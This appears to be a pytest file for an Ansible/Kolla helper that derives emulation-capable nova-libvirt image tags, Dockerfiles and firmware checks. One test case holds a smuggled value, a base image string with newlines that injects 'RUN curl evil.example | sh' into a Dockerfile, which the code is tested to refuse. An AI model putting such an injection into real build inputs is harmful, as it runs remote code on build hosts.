"""Tests for plugins/plugin_utils/nova/libvirt_image.py: the emulation-ready nova-libvirt image of an emulation host.

Oracles: the collection's image reference parser (Docker's rules, itself tested against registries), the arch table's
packages, and the real build: tests/integration/test_nova_libvirt_image.py builds the Dockerfile from kolla-build's own
nova-libvirt image and runs the checks inside it and inside the base (which must fail the aarch64 firmware check).
"""

from __future__ import annotations

import subprocess

import pytest

from ansible_collections.multiarch.kolla.plugins.module_utils.archtable import ARCHES
from ansible_collections.multiarch.kolla.plugins.module_utils.registry import parse_image_ref
from ansible_collections.multiarch.kolla.plugins.plugin_utils.nova import libvirt_image as li

BASE = "registry.example:4000/openstack.kolla/nova-libvirt:2026.2-debian-trixie"


@pytest.mark.parametrize(
    ("base", "arches", "expected"),
    [
        (BASE, ["ppc64le", "aarch64"], BASE + "-emu-aarch64-ppc64le"),
        ("localhost:5000/nova-libvirt", ["aarch64"], "localhost:5000/nova-libvirt:latest-emu-aarch64"),
        ("kolla/nova-libvirt:2026.2-ubuntu-noble-aarch64", ["x86_64"], "kolla/nova-libvirt:2026.2-ubuntu-noble-aarch64-emu-x86_64"),
    ],
)
def test_the_derived_tag_is_the_base_tag_plus_the_arches(base, arches, expected):
    ref, error = li.derived_ref(base, arches)
    assert error is None and ref == expected
    registry, repository, tag = parse_image_ref(ref)
    assert (registry, repository) == parse_image_ref(base)[:2]  # same registry and repository, only the tag differs
    assert tag.endswith("-emu-" + "-".join(sorted(arches)))


@pytest.mark.parametrize(
    ("base", "words"),
    [
        (BASE.replace(":2026.2-debian-trixie", "@sha256:" + "a" * 64), "pinned by digest"),
        ("r:5000/Nova-Libvirt:t", "lower-case"),
        ("r:5000/nova-libvirt:" + "t" * 120, "longer than the 128 characters"),
        ("", "empty"),
        ("registry\nRUN curl evil.example | sh\nFROM x:5000/nova-libvirt:t", "characters an image reference cannot have"),
        ("r:5000/nova-libvirt:{{ lookup('env', 'HOME') }}", "characters a tag cannot have"),
    ],
)
def test_a_base_the_derived_tag_cannot_be_made_from_is_refused(base, words):
    ref, error = li.derived_ref(base, ["aarch64"])
    assert ref is None and words in error
    value, errors = li.libvirt_image("c1", ["aarch64"], "debian", True, base or 7)
    assert value is None and errors and errors[0].startswith("host c1: nova_compute_arch_libvirt_image")


def test_the_packages_are_the_arch_tables_debian_ones():
    value, errors = li.libvirt_image("c1", ["aarch64", "ppc64le"], "ubuntu", True, BASE)
    assert errors == []
    expected = []
    for arch in ("aarch64", "ppc64le"):
        expected += ARCHES[arch]["emulator_packages"]["Debian"] + ARCHES[arch]["firmware_packages"]["Debian"]
    assert value["packages"] == expected == ["qemu-system-arm", "qemu-efi-aarch64", "qemu-system-ppc"]


@pytest.mark.parametrize(
    ("distro", "container", "base", "foreign"),
    [("debian", False, BASE, ["aarch64"]), ("debian", True, "", ["aarch64"]), ("debian", True, BASE, []), ("", True, BASE, ["aarch64"])],
)
def test_no_derived_image(distro, container, base, foreign):
    """Host libvirt, no base named, nothing emulated, or an unknown distro (warned about by emulation.image_warnings): none."""
    value, errors = li.libvirt_image("c1", foreign, distro, container, base)
    assert value is None and errors == []


@pytest.mark.parametrize("distro", ["rocky", "centos", "rhel"])
def test_rpm_images_are_refused_with_both_alternatives(distro):
    value, errors = li.libvirt_image("c1", ["aarch64"], distro, True, BASE)
    assert value is None and len(errors) == 1
    for words in ("host c1", "kolla_base_distro=%s" % distro, "qemu-kvm", "Debian or Ubuntu based nova-libvirt image",
                  "enable_nova_libvirt_container: false"):
        assert words in errors[0]


def _run_checks(checks, root):
    """Run the checks with their absolute paths moved under ``root``; the lines of what is missing."""
    script = "; ".join(c.replace(" /usr/", " %s/usr/" % root) for c in checks)
    return subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True).stdout.splitlines()


def test_the_checks_find_the_emulators_and_firmware_and_miss_them_when_absent(tmp_path):
    """The checks on a tree laid out as the derived image is (the QEMU firmware descriptor format: docs/interop/firmware.json)."""
    checks = li.image_checks(["ppc64le", "aarch64"])
    (tmp_path / "usr/bin").mkdir(parents=True)
    (tmp_path / "usr/share/qemu/firmware").mkdir(parents=True)
    assert len(_run_checks(checks, tmp_path)) == len(checks)  # nothing there: every check misses
    for binary in ("qemu-system-aarch64", "qemu-system-ppc64"):
        (tmp_path / "usr/bin" / binary).write_text("#!/bin/sh\n")
        (tmp_path / "usr/bin" / binary).chmod(0o755)
    (tmp_path / "usr/share/qemu/slof.bin").write_bytes(b"\0" * 16)
    (tmp_path / "usr/share/qemu/firmware/50-edk2-x86_64.json").write_text('{"targets": [{"architecture": "x86_64", "machines": ["pc-q35-*"]}]}')
    missing = _run_checks(checks, tmp_path)
    assert len(missing) == 1 and "aarch64" in missing[0]  # only x86_64's firmware: aarch64 guests could not boot
    (tmp_path / "usr/share/qemu/firmware/60-edk2-aarch64.json").write_text(
        '{\n  "targets": [\n    {\n      "architecture": "aarch64",\n      "machines": ["virt-*"]\n    }\n  ]\n}\n')
    assert _run_checks(checks, tmp_path) == []


def test_one_build_per_image_on_its_first_host_and_two_arches_on_one_tag_are_refused():
    def plan(host, arch, base=BASE, foreign=("aarch64",)):
        value, _errors = li.libvirt_image(host, list(foreign), "debian", True, base)
        return {"host": host, "arch": arch, "decision": {"libvirt_image": value}}

    result = li.builds([plan("c1", "x86_64"), plan("c2", "x86_64"), {"host": "n", "arch": "x86_64", "decision": None},
                        plan("c3", "x86_64", foreign=("ppc64le",))])
    assert result["errors"] == []
    assert [(b["image"], b["builder"], b["hosts"]) for b in result["builds"]] == [
        (BASE + "-emu-aarch64", "c1", ["c1", "c2"]), (BASE + "-emu-ppc64le", "c3", ["c3"])]
    first = result["builds"][0]
    assert first["dockerfile"].splitlines()[1] == "FROM " + BASE
    assert "qemu-system-arm qemu-efi-aarch64" in first["dockerfile"]
    assert first["key"] != result["builds"][1]["key"]
    refused = li.builds([plan("c1", "x86_64", foreign=("ppc64le",)), plan("a1", "aarch64", foreign=("ppc64le",))])
    assert refused["builds"][0]["hosts"] == ["c1"]
    assert len(refused["errors"]) == 1 and "a1 (aarch64)" in refused["errors"][0] and "-aarch64" in refused["errors"][0]
